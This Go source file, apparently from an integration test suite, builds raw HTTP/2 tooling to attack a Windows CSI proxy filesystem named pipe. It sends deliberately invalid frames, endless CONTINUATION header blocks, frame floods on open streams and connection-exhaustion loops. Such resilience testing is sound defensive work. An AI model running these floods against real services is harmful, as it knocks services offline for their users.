package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"net"
	"sync"
	"time"

	"csi-proxy.example/integration/drivers/steps"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacked is the pipe that attackers and honest clients use.
const attacked = "csi-proxy-filesystem-v1"

const (
	root       = `C:\var\lib\kubelet`
	pathExists = "/v1.Filesystem/PathExists"
	mkdir      = "/v1.Filesystem/Mkdir"
)

// raw is an HTTP/2 connection that can send invalid frames.
type raw struct {
	net.Conn
	*http2.Framer
	out     *bufio.Writer
	block   bytes.Buffer
	encoder *hpack.Encoder
	stream  uint32
	forget  func() bool
}

// Close closes the connection now, and so not again at the attack's end.
func (r *raw) Close() error {
	r.forget()
	return r.Conn.Close()
}

// Write writes to the connection, bypassing the framer's buffer.
func (r *raw) Write(bytes []byte) (int, error) { return r.Conn.Write(bytes) }

func dial(ctx context.Context, count *counters) (*raw, error) { return dialPipe(ctx, count, attacked) }

func dialPipe(ctx context.Context, count *counters, pipe string) (*raw, error) {
	limited, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	conn, err := steps.DialPipe(limited, steps.PipePath(pipe))
	if err != nil {
		count.refused.Add(1)
		return nil, err
	}
	count.connections.Add(1)
	r := newRaw(conn, count)
	// Closes the connection when the attack ends, so that no read or write outlasts it.
	r.forget = context.AfterFunc(ctx, func() { conn.Close() })
	return r, nil
}

func newRaw(conn net.Conn, count *counters) *raw {
	r := &raw{Conn: counted{conn, count}, stream: ^uint32(0)}
	// A buffer of 64 KB, so that system calls do not limit the attacker.
	r.out = bufio.NewWriterSize(r, 64<<10)
	r.Framer = http2.NewFramer(r.out, conn)
	r.AllowIllegalWrites = true
	r.encoder = hpack.NewEncoder(&r.block)
	return r
}

// open dials and begins HTTP/2. It reads and discards what the service sends.
func open(ctx context.Context, count *counters, settings ...http2.Setting) (*raw, error) {
	r, err := dial(ctx, count)
	if err != nil {
		return nil, err
	}
	if err := r.begin(settings...); err != nil {
		r.Close()
		return nil, err
	}
	go func() {
		for buffer := make([]byte, 16<<10); ; {
			if _, err := r.Conn.Read(buffer); err != nil {
				return
			}
		}
	}()
	return r, nil
}

// begin sends the preface and settings, and acknowledges the service's settings.
func (r *raw) begin(settings ...http2.Setting) error {
	r.out.WriteString(http2.ClientPreface)
	r.WriteSettings(settings...)
	r.WriteSettingsAck()
	return r.out.Flush()
}

// fields returns the header block of a call, followed by the names and values in more.
func (r *raw) fields(method string, more ...string) []byte {
	r.block.Reset()
	pairs := append([]string{":method", "POST", ":scheme", "http", ":path", method, ":authority", "localhost",
		"content-type", "application/grpc", "te", "trailers"}, more...)
	for i := 0; i < len(pairs); i += 2 {
		r.encoder.WriteField(hpack.HeaderField{Name: pairs[i], Value: pairs[i+1]})
	}
	return r.block.Bytes()
}

// headers opens the next stream.
func (r *raw) headers(block []byte, endHeaders, endStream bool) error {
	r.stream += 2
	return r.WriteHeaders(http2.HeadersFrameParam{StreamID: r.stream, BlockFragment: block,
		EndHeaders: endHeaders, EndStream: endStream})
}

// frameHeader returns the nine bytes of a frame's header; the payload need not follow.
func frameHeader(length int, frame http2.FrameType, flags http2.Flags, stream uint32) []byte {
	// RFC 9113, 4.1: three bytes of length, one of type.
	header := binary.BigEndian.AppendUint32(nil, uint32(length)<<8|uint32(frame))
	return binary.BigEndian.AppendUint32(append(header, byte(flags)), stream)
}

// message returns a gRPC message whose field 1 is text.
func message(text string) []byte {
	field := append([]byte{0x0a, byte(len(text))}, text...)
	return append([]byte{0, 0, 0, 0, byte(len(field))}, field...)
}

// call makes a complete call.
func (r *raw) call(method, path string) error {
	if err := r.headers(r.fields(method), true, false); err != nil {
		return err
	}
	return r.WriteData(r.stream, true, message(path))
}

// encoded returns the bytes that do would send.
func (r *raw) encoded(do func()) []byte {
	var bytes bytes.Buffer
	r.out.Flush()
	r.out.Reset(&bytes)
	do()
	r.out.Flush()
	r.out.Reset(r)
	return bytes.Bytes()
}

// endless sends a header block that repeats the same bytes without end.
func endless(r *raw, block, more []byte) error {
	if err := r.headers(block, false, false); err != nil {
		return err
	}
	for {
		if err := r.WriteContinuation(r.stream, false, more); err != nil {
			return err
		}
	}
}

// flood sends one frame without end on a connection with a running call.
func flood(frame func(r *raw) error) func(ctx context.Context, count *counters) {
	return openAnd(func(r *raw) error {
		if err := r.headers(r.fields(pathExists), true, false); err != nil {
			return err
		}
		for {
			if err := frame(r); err != nil {
				return err
			}
		}
	})
}

// openAnd returns a function that opens a connection and runs do on it. An error of do means that
// the service ended the connection.
func openAnd(do func(r *raw) error) func(ctx context.Context, count *counters) {
	return func(ctx context.Context, count *counters) {
		r, err := open(ctx, count)
		if err != nil {
			return
		}
		if do(r) != nil {
			count.ended.Add(1)
		}
		r.Close()
	}
}

// again runs do repeatedly on four connections.
func again(do func(ctx context.Context, count *counters)) func(ctx context.Context, count *counters) {
	return func(ctx context.Context, count *counters) {
		each(ctx, 4, func(int) {
			for ctx.Err() == nil {
				do(ctx, count)
			}
		})
	}
}

// crowd keeps size connections open, to the pipes in turn or to the attacked one, and dials again for each that ends.
func crowd(size int, do func(ctx context.Context, r *raw), pipes ...string) func(ctx context.Context, count *counters) {
	if len(pipes) == 0 {
		pipes = []string{attacked}
	}
	return func(ctx context.Context, count *counters) {
		each(ctx, size, func(i int) {
			for ctx.Err() == nil {
				if r, err := dialPipe(ctx, count, pipes[i%len(pipes)]); err == nil {
					do(ctx, r)
					r.Close()
					if ctx.Err() == nil {
						count.ended.Add(1)
					}
				}
				time.Sleep(100 * time.Millisecond)
			}
		})
	}
}

// each runs do times times concurrently and waits for all.
func each(ctx context.Context, times int, do func(i int)) {
	var all sync.WaitGroup
	for i := 0; i < times; i++ {
		all.Add(1)
		go func() {
			defer all.Done()
			do(i)
		}()
	}
	all.Wait()
}
